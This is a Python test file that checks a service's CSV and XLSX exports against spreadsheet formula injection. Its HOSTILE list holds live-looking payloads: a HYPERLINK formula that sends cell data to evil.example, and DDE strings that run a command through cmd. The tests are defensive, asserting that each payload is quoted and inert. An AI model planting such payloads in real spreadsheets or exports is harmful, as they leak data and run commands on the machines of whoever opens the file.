"""Every CSV and XLSX the service writes shows hostile text as text: no live formula, no link made from a cell."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from html import unescape

from tests.test_outcomes_shares import path_of, share

API = "/api/v1"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def xlsx_cells(body: bytes) -> tuple[str, list[str], list[str]]:
    """The first sheet's XML, its text cells (shared and inline strings) and its numeric cells."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        shared_xml = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
    shared = [_text(item) for item in re.findall(r"<si>(.*?)</si>", shared_xml, re.S)]
    texts, numbers = [], []
    for attributes, inner in re.findall(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", sheet, re.S):
        value = re.search(r"<v>(.*?)</v>", inner)
        if 't="s"' in attributes and value:
            texts.append(shared[int(value.group(1))])
        elif 't="inlineStr"' in attributes:
            texts.append(_text(inner))
        elif "t=" not in attributes and value:
            numbers.append(value.group(1))
    return sheet, texts, numbers


def _text(xml: str) -> str:
    raw = "".join(re.findall(r"<t[^>]*>(.*?)</t>", xml, re.S))
    return unescape(re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), raw))


def assert_neutralised(cells: list[str], where: str, expected: list[str] | None = None) -> None:
    """No cell starts like a formula; each hostile string arrived, behind a single quote."""
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)]
    assert live == [], (where, live)
    for hostile in expected or []:
        assert any(cell.startswith("'") and hostile.strip("\t\r") in cell for cell in cells), (where, hostile)


def _number(cell: str) -> bool:
    return re.fullmatch(r"[-+]?\d+(?:[.,]\d+)?", cell) is not None


async def hostile_world(make) -> dict:
    """A site, activities, a booklet and a claim whose free text is each hostile string."""
    site = await make.site(HOSTILE[0])
    learner = await make.learner(site, HOSTILE[1], HOSTILE[2], pseudonym=HOSTILE[3])
    scheme = await make.scheme(site, name="Pass numérique")
    on = date(2025, 3, 4)
    workshop = await make.activity(site, date=on, title=HOSTILE[0], note=HOSTILE[1])
    await make.activity(
        site, type="individuel", date=on, title="", learner=learner, referral_type="administration",
        referral_name=HOSTILE[3], referral_note=HOSTILE[4],
    )  # fmt: skip
    booklet = {"number": HOSTILE[5], "prescriber_name": HOSTILE[2]}
    for index, number in enumerate([HOSTILE[1], HOSTILE[3]]):
        await make.voucher(
            site, scheme, number, learner=learner, status="redeemed", activity=workshop, redeemed_on=on,
            booklet={**booklet, "number": f"{HOSTILE[5]}{index}"},
        )  # fmt: skip
    coordinator = await make.user("coordinator", site)
    return {"site": site, "scheme": scheme, "headers": await make.bearer(coordinator)}


async def test_every_export_writes_hostile_text_as_quoted_text(client, make):
    """Activities CSV/XLSX, a claim's CSV, the voucher report CSV, the outcomes CSV/XLSX and a shared link's CSV:
    every text cell starting with =, +, -, @, tab or CR gets a quote, no XLSX cell is a formula, numbers stay
    numbers."""
    world = await hostile_world(make)
    headers = world["headers"]
    period = "from=2025-01-01&to=2025-12-31"

    activities_csv = await client.get(f"{API}/activities.csv", headers=headers)
    assert activities_csv.status_code == 200
    cells = csv_cells(activities_csv.content)
    assert_neutralised(cells, "activities.csv", [HOSTILE[0], HOSTILE[3]])
    assert "90" in cells  # a duration stays a number

    activities_xlsx = await client.get(f"{API}/activities.xlsx", headers=headers)
    assert activities_xlsx.status_code == 200
    sheet, texts, numbers = xlsx_cells(activities_xlsx.content)
    assert "<f>" not in sheet and "<f " not in sheet
    assert_neutralised(texts, "activities.xlsx", [HOSTILE[0], HOSTILE[3]])
    assert "90" in numbers

    body = {"scheme_id": world["scheme"], "date_from": "2025-03-01", "date_to": "2025-03-31"}
    claim = await client.post(f"{API}/claims", json=body, headers=headers)
    assert claim.status_code == 201, claim.text
    claim_csv = await client.get(f"{API}/claims/{claim.json()['id']}.csv", headers=headers)
    assert claim_csv.status_code == 200
    assert_neutralised(csv_cells(claim_csv.content), "claim.csv", [HOSTILE[1], HOSTILE[3], HOSTILE[0]])

    vouchers_csv = await client.get(
        f"{API}/voucher-reports.csv?date_from=2025-01-01&date_to=2025-12-31", headers=headers
    )
    assert vouchers_csv.status_code == 200, vouchers_csv.text
    assert_neutralised(csv_cells(vouchers_csv.content), "voucher-reports.csv", [HOSTILE[2]])

    outcomes_csv = await client.get(f"{API}/reports/outcomes.csv?{period}", headers=headers)
    assert outcomes_csv.status_code == 200
    assert_neutralised(csv_cells(outcomes_csv.content), "outcomes.csv", [HOSTILE[0]])

    outcomes_xlsx = await client.get(f"{API}/reports/outcomes.xlsx?{period}", headers=headers)
    sheet, texts, numbers = xlsx_cells(outcomes_xlsx.content)
    assert "<f>" not in sheet and "<f " not in sheet
    assert_neutralised(texts, "outcomes.xlsx", [HOSTILE[0]])
    assert numbers  # visible figures are numbers, not text

    created = await share(client, headers, sites=[world["site"]])
    shared_csv = await client.get(f"{path_of(created)}.csv")
    assert shared_csv.status_code == 200
    assert_neutralised(csv_cells(shared_csv.content), "shared .csv", [HOSTILE[0]])
